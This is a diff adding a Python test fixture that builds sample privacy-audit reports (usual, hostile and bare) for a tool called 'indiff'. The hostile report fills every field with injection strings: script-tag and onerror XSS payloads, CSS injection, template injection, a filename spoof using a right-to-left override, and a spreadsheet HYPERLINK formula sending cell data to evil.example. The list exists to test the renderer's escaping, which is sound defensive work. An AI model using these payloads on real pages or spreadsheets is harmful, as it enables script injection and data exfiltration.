@@ -1,0 +1,234 @@
+"""Documents written by hand to the published format: a usual one, a hostile one, a bare one."""
+
+from __future__ import annotations
+
+import copy
+from typing import Any
+
+from indiff.audit.metrics import metric
+from indiff.thinning import thinned
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "</script><script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "</style><style>*{display:none}",
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    "age\u202e\u2066gnp.exe\u200f",
+    "👨‍👩‍👧 emoji 🔥",
+    "x" * 10_000,
+    "M" * 9_999 + "<",
+    "nul\x00bell\x07esc\x1b[31mred\u0085\u2028\ud800",
+    "{{ 7*7 }}{% raw %}${7*7}",
+    "a.b[0]['c'].\\d\"e",
+    "datum.value",
+    "<!-- --><!--<script>",
+    "&lt;b&gt; &amp;",
+    "http://evil.example/\"'`",
+    "__proto__",
+    "",
+)
+
+
+def finding(name: str, id: str, value: float | None, **more: Any) -> dict[str, Any]:
+    words = {"about": "diagnosis", "model": "naive-bayes", "largest": "2", "baseline": "31 %"}
+    chosen = metric(name, **words)
+    if value is None:
+        return {**chosen.missed(id, more.pop("status"), more.pop("reason")).to_dict(), **more}
+    made = chosen.found(id, value, {**words, "dropped": "0"}).to_dict()
+    return {**made, "exactness": "exact", **more}
+
+
+def curve(name: str, scale: float) -> dict[str, Any]:
+    count = 5000
+    distances = sorted(
+        0.0 if place % 4 == 0 else scale * (place / count) ** 12 + 1e-5 for place in range(count)
+    )
+    values = sorted(set(distances))
+    shares, reached = [], 0
+    for value in values:
+        reached += distances[reached:].count(value) if value == 0.0 else 1
+        shares.append(reached / count)
+    x, y = thinned(values, shares)
+    return {"name": name, "x": x.tolist(), "y": y.tolist()}
+
+
+def usual() -> dict[str, Any]:
+    """An audit of 5,000 patients whose limit on δ is exceeded."""
+    at_most = {"name": "delta", "rule": "at most", "value": 0.1}
+    k_limit = {"name": "k", "rule": "at least", "value": 5}
+    t_limit = {"name": "t", "rule": "at most", "value": 0.4}
+    findings = [
+        finding("records", "records", 5000),
+        finding("k", "k", 5, before=1, limit=k_limit, exceeded=False),
+        finding("reidentification.itpr", "itpr", 0.412, before=1.0),
+        finding("marketer", "marketer", 0.0312, before=0.71),
+        finding("inference.itpr", "itpr:diagnosis", 0.93378, before=1.0),
+        finding("t", "t:diagnosis", 0.31, before=0.82, limit=t_limit, exceeded=False),
+        finding(
+            "delta",
+            "delta:diagnosis:naive-bayes",
+            1.934,
+            limit=at_most,
+            exceeded=True,
+            parameters={"model": "naive-bayes", "distance": "wasserstein", "targets": None},
+            seed=0,
+        ),
+        finding("mean", "mean:diagnosis:naive-bayes", 0.00213, interval=[0.0018, 0.0031]),
+        finding("told_by_the_crowd", "crowd:diagnosis:naive-bayes", 0.44),
+        finding(
+            "advantage",
+            "advantage",
+            None,
+            status="skipped",
+            reason="the plan does not ask for membership inference",
+        ),
+    ]
+    return {
+        "format": 1,
+        "kind": "audit",
+        "title": "Patients of the regional clinics, 2025",
+        "verdict": {
+            "status": "fail",
+            "exit_code": 1,
+            "reasons": ["delta by naive-bayes is 1.934, and must be at most 0.1"],
+        },
+        "table": {
+            "source": "patients.csv",
+            "records": 5000,
+            "dropped": 0,
+            "fingerprint": "5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592",
+            "notes": [],
+            "columns": [
+                column("patient_id", "identifier", "categorical", 5000),
+                column("age", "quasi", "numeric", 73),
+                column("sex", "quasi", "categorical", 2),
+                column("zip", "quasi", "categorical", 58),
+                column("diagnosis", "sensitive", "categorical", 8),
+            ],
+        },
+        "release": {
+            "sanitizer": "mondrian:k=5",
+            "records": 5000,
+            "constraint_met": True,
+            "groups": 602,
+            "notes": [],
+        },
+        "findings": findings,
+        "charts": {
+            "cdf": [curve("naive-bayes", 1.93), curve("tree", 0.8)],
+            "parameter": {
+                "parameter": "k",
+                "points": [
+                    {"setting": f"mondrian:k={k}", "value": k, "delta": d, "mean": m}
+                    for k, d, m in ((2, 1.97, 0.004), (5, 1.934, 0.0021), (20, 1.1, 0.0009))
+                ],
+            },
+            "risk": [
+                risk_row("ITPR", "re-identification", 1.0, 0.412),
+                risk_row("DR", "re-identification", 0.87, 0.35),
+                risk_row("ITPR", "diagnosis", 1.0, 0.93378),
+                risk_row("DR", "diagnosis", 0.61, 0.12),
+            ],
+            "columns": [
+                {"column": "age", "metric": "DR", "before": 0.42, "after": 0.21},
+                {"column": "sex", "metric": "DR", "before": 0.08, "after": 0.05},
+                {"column": "zip", "metric": "DR", "before": 0.45, "after": 0.2},
+            ],
+            "worst": [
+                worst_row(4711, 1.934, 0.981, 0.012),
+                worst_row(17, 1.72, 0.9, 0.05),
+                worst_row(1203, 0.4, 0.3, 0.1),
+            ],
+        },
+        "plan": {
+            "data": {"path": "patients.csv", "quasi": ["age", "sex", "zip"], "joint": False},
+            "limits": {"delta": 0.1, "k": 5},
+            "run": {"seed": 0, "jobs": None},
+        },
+        "min_cell": 10,
+        "show_values": False,
+        "seed": 0,
+        "versions": {"indiff": "0.1.0", "python": "3.11.9", "numpy": "2.1.0"},
+        "command": "indiff audit plan.toml",
+        "timing": {
+            "started": "2026-01-01T12:00:00+00:00",
+            "seconds": 3.25,
+            "steps": {"risk": 1.1, "differential test": 1.9},
+        },
+    }
+
+
+def column(name: str, role: str, kind: str, distinct: int) -> dict[str, Any]:
+    return {
+        "name": name,
+        "role": role,
+        "kind": kind,
+        "distinct": distinct,
+        "missing": 0,
+        "note": None,
+    }
+
+
+def risk_row(name: str, about: str, before: float, after: float) -> dict[str, Any]:
+    return {"metric": name, "about": about, "before": before, "after": after, "range": [0, 1]}
+
+
+def worst_row(record: int, distance: float, belief: float, without: float) -> dict[str, Any]:
+    return {
+        "record": record,
+        "distance": distance,
+        "belief": belief,
+        "belief_without": without,
+        "model": "naive-bayes",
+        "group_size": 5,
+        "why": "Without it, its group of 5 disappears: the others join groups of 6 and 9 records.",
+    }
+
+
+def hostile() -> dict[str, Any]:
+    """The usual document with hostile text wherever a table, a plan or a machine can put it."""
+    made = copy.deepcopy(usual())
+    both = " ".join(HOSTILE)
+    made["title"] = both
+    made["verdict"]["reasons"] = list(HOSTILE)
+    made["table"]["source"] = HOSTILE[0]
+    made["table"]["notes"] = made["release"]["notes"] = list(HOSTILE)
+    made["table"]["columns"] = [
+        column(text, "quasi", "categorical", 2) | {"note": text} for text in HOSTILE
+    ]
+    made["release"]["sanitizer"] = HOSTILE[2]
+    for place, one in enumerate(made["findings"]):
+        text = HOSTILE[place % len(HOSTILE)]
+        one |= {"id": f"{place}:{text}", "title": text, "means": text, "source": text}
+        one |= {"does_not_prove": both, "parameters": {text or "none": {"inner": [text, both]}}}
+    made["findings"][1]["reason"] = both
+    charts = made["charts"]
+    charts["cdf"] = [{**charts["cdf"][0], "name": text} for text in HOSTILE[:6]]
+    charts["parameter"]["parameter"] = HOSTILE[1]
+    charts["parameter"]["points"] = [
+        {"setting": text, "value": None, "delta": 1.0, "mean": 0.5} for text in HOSTILE
+    ]
+    charts["risk"] = [risk_row(text, text, 1.0, 0.5) for text in HOSTILE]
+    charts["columns"] = [
+        {"column": text, "metric": "DR", "before": 0.9, "after": 0.1} for text in HOSTILE
+    ]
+    charts["worst"] = [
+        worst_row(place, 1.0, 0.9, 0.1) | {"model": text, "why": text}
+        for place, text in enumerate(HOSTILE)
+    ]
+    made["plan"] = {text or "none": {text or "none": both} for text in HOSTILE}
+    made["versions"] = {"indiff": HOSTILE[0], HOSTILE[3]: HOSTILE[1]}
+    made["command"] = both
+    made["timing"]["steps"] = dict.fromkeys(HOSTILE, 1.0)
+    return made
+
+
+def bare() -> dict[str, Any]:
+    """An audit that measured nothing: no chart, no worst record, every finding failed."""
+    made = copy.deepcopy(usual())
+    made["verdict"] = {"status": "incomplete", "exit_code": 3, "reasons": ["k was not measured"]}
+    made["findings"] = [finding("k", "k", None, status="failed", reason="memory ran out")]
+    made["charts"] = {"cdf": [], "parameter": None, "risk": [], "columns": [], "worst": []}
+    made["release"]["groups"] = None
+    return made
